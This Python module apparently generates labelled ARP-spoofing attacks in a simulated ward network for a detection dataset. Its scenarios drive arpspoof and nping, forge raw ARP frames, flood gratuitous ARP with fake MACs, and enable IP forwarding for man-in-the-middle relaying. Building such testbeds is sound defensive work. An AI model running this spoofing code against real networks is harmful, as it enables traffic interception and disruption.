"""Someone else's address claimed by ARP (RFC 826), from within the ward.

The truth of a claim is a line of protocol 0, from the address that is claimed to whom it is told. What
the deceived send, and the attacker passes on, stays what it is: honest talk, heard twice.
"""
import contextlib, socket, struct

from . import raw, scenario
from .floods import between
from .. import wiring
from ..truth import ANY, ARP

ALL = "ff:ff:ff:ff:ff:ff"


def deceived(scene, count):
    """Hosts of the ward to lie to."""
    hosts = [host for host in scene.plan.hosts if host.inside and host.role not in ("visitor", "services")]
    return scene.dice.sample(hosts, min(count, len(hosts)))


@contextlib.contextmanager
def relaying(scene, attacker, relays=True):
    """The attacker passes on what reaches it, or not; afterwards everybody learns right addresses again."""
    def settings(value):
        return [f"net.ipv4.ip_forward={value}", "net.ipv4.conf.all.send_redirects=0",
                "net.ipv4.conf.eth0.send_redirects=0"]
    try:
        scene.run(attacker, "sysctl", "-q", "-w", *settings(int(relays)))
        yield
    finally:
        scene.undo(attacker, "sysctl", "-q", "-w", *settings(0))
        heal(scene)


def heal(scene):
    """Has all hosts within forget whom they believe, and the bridge's own table, too."""
    for space in [wiring.WARD, *(host.space for host in scene.plan.hosts if host.inside)]:
        wiring.forget_neighbours(space)


def arp(operation, sender, target, to):
    """An Ethernet frame with ARP; `sender` and `target` are MAC and IPv4 addresses."""
    def mac(text):
        return bytes.fromhex(text.replace(":", ""))
    return (mac(to) + mac(sender[0]) + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
            + mac(sender[0]) + raw.packed(sender[1]) + mac(target[0]) + raw.packed(target[1]))


def tell(scene, frames, rate, limit=None):
    """Sends frames in turn, so many a second, as long as the scene or `limit` of them."""
    dice, pad = scene.dice, scene.dice.choice((0, 18))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind(("eth0", 0))
        for index in range(min(limit or 10_000, max(len(frames), int(rate * scene.seconds)))):
            link.send(frames[index % len(frames)] + bytes(pad))
            scene.wait(dice.uniform(0.7, 1.3) / rate)


def lines(scene, claims):
    """The truth of claims: pairs of the address that is claimed and whom it is told."""
    stack = contextlib.ExitStack()
    for claimed, told in claims:
        stack.enter_context(scene.attack(claimed, told, ARP))
    return stack


def arpspoof(scene, attacker, *words):
    """arpspoof for a while. Its datagrams to port 67, by which it has the kernel ask for the MAC address of
    whom it lies to, and the errors that answer them belong to it."""
    wiring.forget_neighbours(attacker.space)
    with (scene.attack(attacker.address, ANY),
          scene.running(attacker, "arpspoof", "-i", "eth0", *words) as program):
        scene.wait(scene.seconds + scene.dice.uniform(0, 4))
        if program.poll() is not None:
            raise RuntimeError("arpspoof found no MAC address")


@scenario("arp-gateway", "ARP_SPOOF", "arpspoof: a host takes the attacker for the gateway", ["arpspoof"])
def arp_gateway(scene):
    attacker, (victim,), gateway = scene.insider(), deceived(scene, 1), wiring.ward_address(scene.plan)
    with relaying(scene, attacker, scene.dice.random() < 0.7), lines(scene, [(gateway, victim.address)]):
        arpspoof(scene, attacker, "-t", victim.address, gateway)


@scenario("arp-between", "ARP_SPOOF", "arpspoof -r: the attacker stands between two hosts", ["arpspoof"])
def arp_between(scene):
    attacker, pair = scene.insider(), [host.address for host in deceived(scene, 2)]
    if scene.dice.random() < 0.5:
        pair[1] = wiring.ward_address(scene.plan)
    with relaying(scene, attacker), lines(scene, [pair]):
        arpspoof(scene, attacker, "-r", "-t", *pair)


@scenario("arp-hand", "ARP_SPOOF", "hand-made ARP: the gateway's or a server's address, to some hosts")
def arp_hand(scene):
    attacker, dice = scene.insider(), scene.dice
    claimed = dice.choice((wiring.ward_address(scene.plan), scene.host("records").address,
                           scene.host("broker").address))
    told = [host for host in deceived(scene, dice.randint(1, 4)) if host.address != claimed]
    told = told or [scene.host("ecg")]
    operation, rate = dice.choice((2, 2, 1)), between(scene, 1, 30)
    frames = [arp(operation, (attacker.mac, claimed), (host.mac, host.address), host.mac) for host in told]
    claims = [(claimed, host.address) for host in told]
    with relaying(scene, attacker, dice.random() < 0.7), lines(scene, claims):
        scene.call(attacker, tell, scene, frames, rate)


@scenario("arp-gratuitous", "ARP_SPOOF", "hand-made gratuitous ARP: an address announced to all")
def arp_gratuitous(scene):
    attacker, dice, plan = scene.insider(), scene.dice, scene.plan
    hosts = [host.address for host in plan.hosts if host.inside and host.role != "visitor"]
    claimed = dice.sample([wiring.ward_address(plan), *hosts], dice.choice((1, 1, 2, 3)))
    operation, to = dice.choice((1, 2)), dice.choice((ALL, "00:00:00:00:00:00"))
    frames = [arp(operation, (attacker.mac, address), (to, address), ALL) for address in claimed]
    claims = [(address, address) for address in claimed]
    with relaying(scene, attacker, dice.random() < 0.5), lines(scene, claims):
        scene.call(attacker, tell, scene, frames, between(scene, 1, 60))


@scenario("arp-storm", "ARP_SPOOF", "gratuitous ARP of the ward's addresses, with MACs made up")
def arp_storm(scene):
    attacker, dice = scene.insider(), scene.dice
    hosts = [host.address for host in scene.plan.hosts if host.inside and host.role != "visitor"]
    claimed, rate = dice.sample(hosts, dice.randint(len(hosts) // 2, len(hosts))), between(scene, 30, 400)
    frames = []
    for index in range(int(rate * scene.seconds)):
        mac = ":".join(f"{byte:02x}" for byte in (dice.randrange(256) & 0xFC, *dice.randbytes(5)))
        address = claimed[index % len(claimed)]
        frames.append(arp(2, (mac, address), (ALL, address), ALL))
    with relaying(scene, attacker, False), lines(scene, [(address, address) for address in claimed]):
        scene.call(attacker, tell, scene, frames, rate)


@scenario("arp-nping", "ARP_SPOOF", "nping: a host takes the attacker for another host", ["nping"])
def arp_nping(scene):
    attacker, (victim, other), dice = scene.insider(), deceived(scene, 2), scene.dice
    rate = between(scene, 1, 20)
    with relaying(scene, attacker), lines(scene, [(other.address, victim.address)]):
        scene.run(attacker, "nping", "-q", "-N", "-e", "eth0", "--arp", "--arp-type", "ARP-reply",
                  "--arp-sender-mac", attacker.mac, "--arp-sender-ip", other.address, "--arp-target-mac",
                  victim.mac, "--arp-target-ip", victim.address, "--dest-mac", victim.mac, "--rate", rate,
                  "-c", max(3, int(rate * scene.seconds)), victim.address, seconds=scene.seconds + 3)
